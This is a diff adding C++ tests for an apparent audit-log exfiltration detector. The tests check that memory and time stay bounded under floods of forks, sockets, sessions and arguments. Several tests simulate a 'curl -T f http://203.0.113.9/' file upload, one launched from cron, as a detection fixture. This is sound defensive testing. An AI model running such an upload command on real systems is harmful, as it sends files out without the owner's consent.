@@ -1,0 +1,248 @@
+#include "host_with_cron.hpp"
+
+/// What a hostile local user can grow costs bounded memory and linear time, and is counted.
+namespace auexfil::test {
+namespace {
+
+/// Events without a text in between: a million of them in little time.
+class Stream {
+ public:
+  explicit Stream(host::Tracker::Options options = {})
+      : book_(rules().tools, rules().signs), tracker_(options, book_) {
+    book_.attach(tracker_);
+    syscall_.type = audit::type::kSyscall;
+    sockaddr_.type = audit::type::kSockaddr;
+    execve_.type = audit::type::kExecve;
+  }
+
+  void call(std::uint32_t number, std::int64_t exit, std::uint32_t ppid, std::uint32_t pid,
+            std::uint64_t a0 = 0, std::uint64_t a1 = 0, std::uint64_t a2 = 0,
+            std::string_view saddr = {}, std::string_view execve = {}) {
+    args_ = audit::Syscall{};
+    args_.arch = kX86_64;
+    args_.number = number;
+    args_.exit = exit;
+    args_.has_exit = true;
+    args_.success = exit >= 0;
+    args_.a[0] = a0;
+    args_.a[1] = a1;
+    args_.a[2] = a2;
+    args_.ppid = ppid;
+    args_.pid = pid;
+    syscall_.body = tail_;
+    std::size_t records = 0;
+    records_[records++] = &syscall_;
+    if (!saddr.empty()) {
+      sockaddr_.body = saddr;
+      records_[records++] = &sockaddr_;
+    }
+    if (!execve.empty()) {
+      execve_.body = execve;
+      records_[records++] = &execve_;
+    }
+    audit::Event event;
+    event.stamp = {1'796'173'200'000 + serial_, ++serial_};
+    event.records = {records_, records};
+    event.syscall = &args_;
+    tracker_.take(event);
+  }
+  void program(std::string_view exe, std::uint32_t ses = 5) {
+    tail_ = fmt::format(" auid=1000 uid=1000 tty=(none) ses={} comm=\"x\" exe=\"{}\" key=\"t\"",
+                        ses, exe);
+  }
+  host::Tracker& tracker() { return tracker_; }
+  transfer::Book& book() { return book_; }
+  std::vector<transfer::Fact> facts() {
+    tracker_.finish();
+    std::vector<transfer::Fact> all;
+    transfer::HostName name;
+    name.file_name = [](std::uint32_t) { return std::string("audit.log"); };
+    book_.for_each(name, [&](const transfer::Fact& fact, const transfer::FactDetails&) {
+      all.push_back(fact);
+    });
+    return all;
+  }
+  [[nodiscard]] std::uint64_t bound(const std::string& name) {
+    const auto bounds = tracker_.bounds();
+    const auto found = bounds.find(name);
+    return found == bounds.end() ? 0 : found->second;
+  }
+
+ private:
+  transfer::Book book_;
+  host::Tracker tracker_;
+  std::string tail_ =
+      " auid=1000 uid=1000 tty=(none) ses=5 comm=\"x\" exe=\"/usr/bin/x\" key=\"t\"";
+  audit::Syscall args_;
+  audit::Record syscall_;
+  audit::Record sockaddr_;
+  audit::Record execve_;
+  const audit::Record* records_[3] = {};
+  std::uint32_t serial_ = 0;
+};
+
+constexpr std::uint32_t kMillion = 1'000'000;
+
+}  // namespace
+
+TEST_CASE("bounds: a million children") {
+  Stream stream;
+  for (std::uint32_t i = 0; i < kMillion; ++i) {
+    stream.call(56, 1000 + i, 1, 900, 0x1200011);
+  }
+  CHECK(stream.bound("processes") > 700'000);
+  CHECK(stream.facts().empty());
+}
+
+TEST_CASE("bounds: a million generations, each a child of the last, each with a table of its own") {
+  Stream stream;
+  for (std::uint32_t fd = 3; fd < 1000; ++fd) {
+    stream.call(41, fd, 1, 900, 2, 1);
+  }
+  for (std::uint32_t i = 0; i < kMillion / 4; ++i) {
+    stream.call(56, 1000 + i, 1, 900, 0x1200011);
+    stream.call(3, 0, 900, 1000 + i, 3 + i % 900);  // the child changes its copy, and lives on
+  }
+  CHECK(stream.bound("descriptors") > 0);
+  CHECK(stream.facts().empty());
+}
+
+TEST_CASE("bounds: a million descriptors") {
+  Stream stream;
+  for (std::uint32_t i = 0; i < kMillion; ++i) {
+    stream.call(41, 3 + (i * 7919) % kMillion, 1, 900, 2, 1);
+  }
+  CHECK(stream.bound("descriptors") > 900'000);
+  CHECK(stream.facts().empty());
+}
+
+TEST_CASE("bounds: a million sockets to as many peers, of one program") {
+  Stream stream;
+  for (std::uint32_t i = 0; i < kMillion / 2; ++i) {
+    const std::string peer = "saddr=" + saddr(fmt::format("203.{}.{}.9", i / 256 % 256, i % 256),
+                                              static_cast<int>(1024 + i / 65536));
+    stream.call(41, 3, 1, 900, 2, 1);
+    stream.call(42, 0, 1, 900, 3, 0x7f, 16, peer);
+    stream.call(1, 10, 1, 900, 3, 0x7f, 10);
+    stream.call(3, 0, 1, 900, 3);
+  }
+  CHECK(stream.book().refused_legs() > 400'000);
+  const auto facts = stream.facts();
+  REQUIRE(facts.size() == 1);
+  CHECK(facts[0].bytes_out == 81'920U);
+  CHECK(has_note(facts[0], "more connections"));
+  CHECK(facts[0].basis == transfer::Basis::at_least);
+}
+
+TEST_CASE("bounds: one datagram socket, a million peers") {
+  Stream stream;
+  stream.call(41, 3, 1, 900, 2, 2);
+  for (std::uint32_t i = 0; i < kMillion; ++i) {
+    const std::string peer =
+        "saddr=" + saddr(fmt::format("203.0.{}.{}", i / 200 % 250, i % 200), 1024 + i % 5);
+    stream.call(44, 10, 1, 900, 3, 0x7f, 10, peer);
+  }
+  CHECK(stream.bound("peers") > 100'000);
+  CHECK(stream.facts().size() == 1);
+}
+
+TEST_CASE("bounds: sockets that stay open") {
+  Stream stream;
+  const std::string peer = "saddr=" + saddr(kDrop, 80);
+  for (std::uint32_t i = 0; i < kMillion; ++i) {
+    // every process holds some, none is seen to end
+    stream.call(41, 3 + i % 8, 1, 1000 + i / 8, 2, 1);
+    stream.call(42, 0, 1, 1000 + i / 8, 3 + i % 8, 0x7f, 16, peer);
+  }
+  CHECK(stream.bound("sockets") > 0);
+}
+
+TEST_CASE("bounds: as many sessions") {
+  host::Tracker::Options options;
+  options.max_sessions = 1000;
+  Log log;
+  log.there(300, 1, "/usr/sbin/cron");
+  for (std::uint32_t ses = 1; ses <= 20'000; ++ses) {
+    log.login(300, 0, ses);
+  }
+  const Told told = tell_host(log.text(), options);
+  CHECK(told.tracker->bounds().at("sessions") == 19'000);
+  CHECK(told.tracker->find_session(0, 20'000) != nullptr);
+  CHECK(told.tracker->find_session(0, 1) == nullptr);
+}
+
+TEST_CASE("bounds: distinct arguments without end leave room for what lives") {
+  host::Tracker::Options options;
+  options.max_string_bytes = 1 << 20;
+  Stream stream(options);
+  for (std::uint32_t i = 0; i < 200'000; ++i) {
+    stream.call(59, 0, 1, 1000 + i % 50, 0, 0, 0, {},
+                fmt::format("argc=2 a0=\"x\" a1=\"argument-number-{:012}\"", i));
+  }
+  // Ten times as much as fits has gone by. A job that comes now is still told in full.
+  stream.program("/usr/bin/curl");
+  stream.call(59, 0, 1, 700, 0, 0, 0, {},
+              "argc=4 a0=\"curl\" a1=\"-T\" a2=\"f\" a3=\"http://203.0.113.9/\"");
+  stream.call(41, 3, 1, 700, 2, 1);
+  stream.call(42, 0, 1, 700, 3, 0x7f, 16, "saddr=" + saddr(kDrop, 80));
+  stream.call(44, 150, 1, 700, 3, 0x7f, 150);
+  stream.call(3, 0, 1, 700, 3);
+  const auto facts = stream.facts();
+  REQUIRE(facts.size() == 1);
+  CHECK(facts[0].tool == "curl");
+  REQUIRE(facts[0].process.argv.size() == 4);
+  CHECK(facts[0].process.argv[3] == "http://203.0.113.9/");
+}
+
+TEST_CASE("bounds: one process's arguments") {
+  host::Tracker::Options options;
+  options.argv.max_bytes = 1000;
+  Log log;
+  log.fork(1, 400);
+  std::vector<std::string> argv = {"/usr/bin/curl", "-T", "f", "http://203.0.113.9/"};
+  for (int i = 0; i < 500; ++i) {
+    argv.push_back("argument");
+  }
+  log.exec(400, "/usr/bin/curl", argv);
+  log.tcp(400, 3, kDrop, 80);
+  log.send(400, 3, 10);
+  log.done(400);
+  const auto facts = tell(log, options);
+  REQUIRE(facts.size() == 1);
+  CHECK(has_note(facts[0], "not in the log whole"));
+}
+
+TEST_CASE("bounds: pids beyond what a kernel gives are counted, not followed") {
+  Stream stream;
+  for (std::uint32_t i = 0; i < 1000; ++i) {
+    stream.call(1, 10, 1, 5'000'000 + i, 3);
+    stream.call(56, 4'000'000'000LL, 1, 900, 0x1200011);
+  }
+  CHECK(stream.bound("pids") == 2000);
+}
+
+TEST_CASE("bounds: forgetting processes does not forget who started the next job") {
+  host::Tracker::Options options;
+  options.max_processes = 200;
+  Log log;
+  log.titles = false;
+  log.there(300, 1, "/usr/sbin/cron");
+  log.there(666, 1, "/opt/bomb");
+  for (int i = 0; i < 5000; ++i) {
+    log.fork(666, 10'000 + i);
+  }
+  log.fork(300, 301);
+  log.exec(301, "/usr/bin/dash", {"/bin/sh", "-c", "job"});
+  for (int i = 0; i < 150; ++i) {
+    log.fork(666, 20'000 + i);
+  }
+  log.run(301, 302, "/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
+  log.tcp(302, 3, kDrop, 80);
+  log.send(302, 3, 150);
+  log.done(302);
+  const auto facts = tell(log, options);
+  REQUIRE(facts.size() == 1);
+  CHECK(sign_of(facts[0]) == "unattended cron");
+}
+
+}  // namespace auexfil::test
